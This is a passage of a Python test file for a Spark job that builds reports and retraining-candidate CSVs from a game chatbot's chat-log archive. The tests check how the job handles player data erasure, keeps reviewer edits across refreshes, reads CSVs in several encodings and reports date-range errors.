# After the job above: it starts a Spark session of its own and stops it.
def test_job_on_a_folder_without_an_archive_says_so_in_one_line(tmp_path, capsys):
    empty = tmp_path / "chat-log"
    empty.mkdir()
    assert main([*ONE_PLAYER, "--input", str(empty), "--from", "2026-12-01", "--to", "2026-12-01", "--out", str(tmp_path / "reports")]) == 2
    error = capsys.readouterr().err.strip()
    assert len(error.splitlines()) == 1 and str(empty) in error and "--input" in error
    assert not (tmp_path / "reports").exists()


# After the jobs above: it runs the job twice, each starting a Spark session of its own and stopping it.
def test_refresh_after_an_erasure_leaves_the_players_words_out_and_keeps_the_reviews(tmp_path, capsys):
    training = tmp_path / "training.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    day = tmp_path / "chat-log" / "date=2026-11-25"
    day.mkdir(parents=True)
    records = [
        line("q1", "r1", "player", "p1", "민수", "@kobot 민수만 아는 비밀 질문", ts("10:00"), toNpc="kobot", account="acc-m"),
        answer("a1", "r1", "q1", "민수만 아는 비밀 질문", "비밀은 지켜 드릴게요", ts("10:00"), 100, "m1"),
        line("q2", "r1", "player", "p1", "민수", "@kobot 대장간은 어디야", ts("10:01"), toNpc="kobot", account="acc-m"),
        answer("a2", "r1", "q2", "대장간은 어디야", "저기요", ts("10:01"), 100, "m1"),
        line("q3", "r1", "player", "p2", "지영", "@kobot 대장간은 어디야?", ts("10:02"), toNpc="kobot", account="acc-j"),
        answer("a3", "r1", "q3", "대장간은 어디야?", "저기요", ts("10:02"), 100, "m1"),
        line("bad", "r1", "emote", "p1", "민수", "민수의 춤", ts("10:03"), account="acc-m"),
    ]
    write = lambda rows: (day / "s.ndjson").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    write(records)
    reports = tmp_path / "reports"
    job = ["--out", str(reports), "--training-data", str(training)]
    assert main([*ONE_PLAYER, "--input", str(tmp_path / "chat-log"), "--from", "2026-11-25", "--to", "2026-11-25", *job]) == 0
    out = reports / "2026-11-25"
    with open(out / "retrain-candidates.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["Q"] for row in rows] == ["대장간은 어디야", "민수만 아는 비밀 질문"]
    for row in rows:  # a reviewer's answers, saved as a spreadsheet saves CSV (with a byte order mark)
        row.update(A="마을 동쪽 끝에 있어요." if "대장간" in row["Q"] else "비밀", reviewed="yes")
    with open(out / "retrain-candidates.csv", "w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["Q", "A", "label", "reviewed", "asked", "players"])
        writer.writeheader()
        writer.writerows(rows)
    reviewed = (out / "retrain-candidates.csv").read_bytes()
    # The day's report run again (a cron, an operator): it overwrote the reviews, every row back to reviewed=no.
    assert main([*ONE_PLAYER, "--input", str(tmp_path / "chat-log"), "--from", "2026-11-25", "--to", "2026-11-25", *job]) == 0
    assert (out / "retrain-candidates.csv").read_bytes().decode("utf-8-sig").splitlines() == reviewed.decode("utf-8-sig").splitlines()
    # A refresh without the training data the report was written against cannot drop what an erasure took: it says so.
    assert main([*ONE_PLAYER, "--refresh", "--out", str(reports), "--training-data", str(tmp_path / "missing.csv")]) == 2
    assert (out / "retrain-candidates.csv").read_bytes().decode("utf-8-sig") == reviewed.decode("utf-8-sig")

    # 민수's erasure (as the server erases the embedded default's files: their lines and the answers to them), and a
    # question that came late.
    late = [line("q4", "r1", "player", "p2", "지영", "@kobot 늦게 온 질문", ts("23:59"), toNpc="kobot", account="acc-j"),
            answer("a4", "r1", "q4", "늦게 온 질문", "늦었네요", ts("23:59"), 100, "m1")]
    write([r for r in records if r.get("account") != "acc-m" and r.get("replyTo") not in ("q1", "q2")] + late)
    assert main([*ONE_PLAYER, "--refresh", "--out", str(reports)]) == 0  # the input and the training data each report was written from

    written = {path.name: path.read_text(encoding="utf-8-sig") for path in out.iterdir() if path.suffix != ".png"}
    assert "quarantine.ndjson" not in written, "its only record was 민수's"
    assert not any(said in text for text in written.values() for said in ["민수", "비밀", "acc-m", "p1"]), written
    report = json.loads(written["report.json"])
    assert (report["questions"], report["input"], report["retrainCandidates"]) == (2, str(tmp_path / "chat-log"), 2)
    refreshed = list(csv.DictReader(written["retrain-candidates.csv"].splitlines()))
    assert refreshed == [
        {"Q": "늦게 온 질문", "A": "늦었네요", "label": "0", "reviewed": "no", "asked": "늦게 온 질문", "players": "1"},
        # asked by 지영 too: kept, as reviewed; `asked` now as she wrote it, and by one player now
        {"Q": "대장간은 어디야", "A": "마을 동쪽 끝에 있어요.", "label": "0", "reviewed": "yes", "asked": "대장간은 어디야?", "players": "1"},
    ]

    # Its day left the archive (retention, cold storage) while other days stay: a refresh leaves it as it was, and says
    # so. It read "0 questions" and dropped the reviewers' rows as no longer asked.
    other = tmp_path / "chat-log" / "date=2026-11-26"
    other.mkdir()
    (other / "s.ndjson").write_text(json.dumps(line("x1", "r1", "player", "p2", "지영", "안녕", ts("10:00", "2026-11-26"), account="acc-j"), ensure_ascii=False) + "\n")
    before = {path.name: path.read_bytes() for path in out.iterdir()}
    (day / "s.ndjson").unlink()
    day.rmdir()
    assert main([*ONE_PLAYER, "--refresh", "--out", str(reports)]) == 0
    assert "left as it was" in capsys.readouterr().err
    assert {path.name: path.read_bytes() for path in out.iterdir()} == before


# After the jobs above: it runs the job, which starts a Spark session of its own and stops it.
def test_refresh_reads_every_candidates_file_before_it_rewrites_any(tmp_path, capsys):
    training = tmp_path / "training.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    chat_log = tmp_path / "chat-log"
    (chat_log / "date=2026-11-25").mkdir(parents=True)
    (chat_log / "date=2026-11-25" / "s.ndjson").write_text(  # after 민수's erasure: 지영's question is left
        json.dumps(line("q1", "r1", "player", "p2", "지영", "@kobot 대장간은 어디야", ts("10:00"), toNpc="kobot"), ensure_ascii=False) + "\n"
        + json.dumps(answer("a1", "r1", "q1", "대장간은 어디야", "저기요", ts("10:00"), 100, "m1"), ensure_ascii=False) + "\n")
    reviewed = ("Q,A,label,reviewed,asked\r\n대장간은 어디야,마을 동쪽 끝에 있어요.,0,yes,대장간은 어디야\r\n"
                "민수만 아는 비밀 질문,비밀,0,yes,민수만 아는 비밀 질문\r\n")
    reports = tmp_path / "reports"
    # Three reports of the day, their candidates reviewed in spreadsheets: saved as "CSV UTF-8"; as Korean Excel's
    # default "CSV (쉼표로 분리)", CP949; as "유니코드 텍스트", UTF-16, which is no CSV the job reads.
    for name, encoding in (("2026-11-25a", "utf-8-sig"), ("2026-11-25b", "cp949"), ("2026-11-25c", "utf-16")):
        (reports / name).mkdir(parents=True)
        report = {"input": str(chat_log), "range": {"from": "2026-11-25", "to": "2026-11-25"}, "trainingData": str(training)}
        (reports / name / "report.json").write_text(json.dumps(report))
        (reports / name / "retrain-candidates.csv").write_bytes(reviewed.encode(encoding))
    before = {path: path.read_bytes() for path in reports.glob("*/*")}
    # It refreshed the first report, then stopped at the second with a traceback: it and the third kept 민수's words.
    assert main(["--refresh", "--out", str(reports)]) == 2
    error = capsys.readouterr().err.strip()
    assert len(error.splitlines()) == 1 and str(reports / "2026-11-25c" / "retrain-candidates.csv") in error, error
    assert {path: path.read_bytes() for path in reports.glob("*/*")} == before, "nothing written"

    (reports / "2026-11-25c" / "retrain-candidates.csv").write_bytes(reviewed.encode("utf-8-sig"))  # saved again, as "CSV UTF-8"
    assert main(["--refresh", "--out", str(reports)]) == 0
    # Files from before the `players` column and the bar of two players (--min-players): 지영 alone asked, and the
    # review stays; the column is added.
    for name in ("2026-11-25a", "2026-11-25b", "2026-11-25c"):
        written = (reports / name / "retrain-candidates.csv").read_bytes()
        assert written.decode("utf-8-sig").splitlines() == [
            "Q,A,label,reviewed,asked,players", "대장간은 어디야,마을 동쪽 끝에 있어요.,0,yes,대장간은 어디야,1"], name
        assert written.startswith(b"\xef\xbb\xbf"), "written back as the job writes it: UTF-8, with a byte order mark"

# After the jobs above: it runs the job twice, each starting a Spark session of its own and stopping it.
def test_reports_of_two_ranges_ending_the_same_day_keep_each_others_reviews(tmp_path, capsys):
    """Both were reports/<to>/: the day's report, written after the month's, dropped the month's reviewed rows of the
    days before as "no longer in the archive"."""
    training = tmp_path / "training.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    chat_log = tmp_path / "chat-log"
    for day, question in (("2026-11-24", "어제 물은 질문"), ("2026-11-25", "오늘 물은 질문")):
        (chat_log / f"date={day}").mkdir(parents=True)
        (chat_log / f"date={day}" / "s.ndjson").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in [
            line(f"q-{day}", "r1", "player", "p2", "지영", f"@kobot {question}", ts("10:00", day), toNpc="kobot"),
            answer(f"a-{day}", "r1", f"q-{day}", question, "그렇군요", ts("10:00", day), 100, "m1")]))
    reports = tmp_path / "reports"
    job = ["--input", str(chat_log), "--to", "2026-11-25", "--out", str(reports), "--training-data", str(training)]
    assert main([*ONE_PLAYER, "--from", "2026-11-24", *job]) == 0
    two_days = reports / "2026-11-24_2026-11-25"
    candidates = two_days / "retrain-candidates.csv"
    candidates.write_text(candidates.read_text(encoding="utf-8-sig").replace(",no,", ",yes,"), encoding="utf-8-sig")
    reviewed = candidates.read_bytes()
    assert reviewed.decode("utf-8-sig").count(",yes,") == 2

    assert main([*ONE_PLAYER, "--from", "2026-11-25", *job]) == 0
    assert candidates.read_bytes() == reviewed, "the range's report untouched"
    assert "오늘 물은 질문" in (reports / "2026-11-25" / "retrain-candidates.csv").read_text(encoding="utf-8-sig")
    assert json.loads((two_days / "report.json").read_text())["range"] == {"from": "2026-11-24", "to": "2026-11-25"}

    # A range's report written before, under its last day: the day's report refuses to take its folder.
    shutil.rmtree(reports / "2026-11-25")
    two_days.rename(reports / "2026-11-25")
    capsys.readouterr()
    assert main([*ONE_PLAYER, "--from", "2026-11-25", *job]) == 2
    assert f"{reports / '2026-11-25'} holds the report of 2026-11-24..2026-11-25: move it to {two_days}" in capsys.readouterr().err
    assert (reports / "2026-11-25" / "retrain-candidates.csv").read_bytes() == reviewed


# After the jobs above: it runs the job, which starts a Spark session of its own and stops it.
def test_a_player_reported_on_an_earlier_day_supplies_no_retrain_candidates(tmp_path):
    """The reported players were those of the report's days only: yesterday's troll was today's data to learn from."""
    training = tmp_path / "training.csv"
    training.write_text("Q,A,label\n배고파,밥 먹어요,0\n", encoding="utf-8")
    chat_log = tmp_path / "chat-log"
    by_day = {
        "2026-11-24": [line("rp1", "r1", "report", "p3", "수아", "도배", ts("10:00", "2026-11-24"),
                            report={"player": "p9", "account": "acc-t", "name": "트롤", "lineIds": []})],
        "2026-11-25": [line("q1", "r1", "player", "p2", "트롤", "@kobot 트롤의 질문", ts("10:00"), toNpc="kobot", account="acc-t"),
                       answer("a1", "r1", "q1", "트롤의 질문", "네", ts("10:00"), 100, "m1"),
                       line("q2", "r1", "player", "p4", "지영", "@kobot 지영의 질문", ts("10:01"), toNpc="kobot", account="acc-j"),
                       answer("a2", "r1", "q2", "지영의 질문", "네", ts("10:01"), 100, "m1")],
        # Reported after the report's last day: the report, run again, stays as it was.
        "2026-11-26": [line("rp2", "r1", "report", "p3", "수아", "", ts("10:00", "2026-11-26"),
                            report={"player": "p4", "account": "acc-j", "name": "지영", "lineIds": []})],
    }
    for day, records in by_day.items():
        (chat_log / f"date={day}").mkdir(parents=True)
        (chat_log / f"date={day}" / "s.ndjson").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records))
    reports = tmp_path / "reports"
    assert main([*ONE_PLAYER, "--input", str(chat_log), "--from", "2026-11-25", "--to", "2026-11-25", "--out", str(reports), "--training-data", str(training)]) == 0
    with open(reports / "2026-11-25" / "retrain-candidates.csv", encoding="utf-8-sig", newline="") as handle:
        assert [row["Q"] for row in csv.DictReader(handle)] == ["지영의 질문"]


def test_refresh_with_no_report_says_so_in_one_line(tmp_path, capsys):
    assert main([*ONE_PLAYER, "--refresh", "--out", str(tmp_path / "reports")]) == 2
    assert "no report under" in capsys.readouterr().err


def test_report_days_as_the_archive_names_them():
    assert days("2026-11-5", "2026-11-09") == ("2026-11-05", "2026-11-09"), "an unpadded day read no folder: an empty report"
    with pytest.raises(ValueError, match="--from 2026-11-06 is after --to 2026-11-04"):
        days("2026-11-06", "2026-11-04")
    with pytest.raises(ValueError):
        days("2026-02-30", "2026-03-01")
